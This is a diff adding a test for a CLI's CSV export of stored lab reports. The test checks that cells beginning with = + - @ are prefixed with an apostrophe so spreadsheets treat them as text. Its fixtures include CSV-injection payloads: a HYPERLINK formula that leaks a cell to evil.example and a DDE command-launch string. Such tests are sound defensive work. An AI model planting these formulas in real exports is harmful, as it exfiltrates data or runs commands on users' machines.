@@ -169,6 +169,28 @@ def test_csv_and_json_carry_hostile_fields_whole(cli: CliRunner, ch: Any) -> Non
     assert list(csv.reader(io.StringIO(done.stdout_bytes.decode(), newline=""))) == [["summary", "n"], [HOSTILE, "1"]]
 
 
+#: A substance name a lab may send (no control character: the wire contract accepts it), which a spreadsheet
+#: runs as a formula when a CSV cell starts with it: a click sends the row's neighbouring cell to the address.
+FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"3-MMC")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(cli: CliRunner, ch: Any) -> None:
+    """CSV injection: every read command's CSV goes through write_csv; a stored report's substance name that starts
+    with = + - @ reaches the analyst's spreadsheet as text, and JSON (for programs) still carries it exactly."""
+    names = [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
+    records = [lab(event_id=f"formula-{i}", substance={"name": name}) for i, name in enumerate(names)]
+    batch = Intake().process([RawMessage(f"t:0:{i}", json.dumps(r)) for i, r in enumerate(records)])
+    assert len(batch.events) == len(names), batch.rejects
+    ClickHouseSink(ch).store_events(batch.events)
+    query = "SELECT substance_name, -1 AS minus FROM lab_detections ORDER BY event_id"
+    done = cli.invoke(app, ["sql", query, "--format", "csv"])
+    assert done.exit_code == 0, done.output
+    rows = list(csv.reader(io.StringIO(done.stdout_bytes.decode(), newline="")))
+    assert rows == [["substance_name", "minus"]] + [["'" + name, "-1"] for name in names]  # -1 a number: as is
+    done = cli.invoke(app, ["sql", query, "--format", "json"])
+    assert [r["substance_name"] for r in json.loads(done.output)] == names
+
+
 def test_stats_wording_and_formats(cli: CliRunner, ch: Any) -> None:
     _store_one_report_and_a_hostile_alert(ch)
     done = cli.invoke(app, ["stats"])
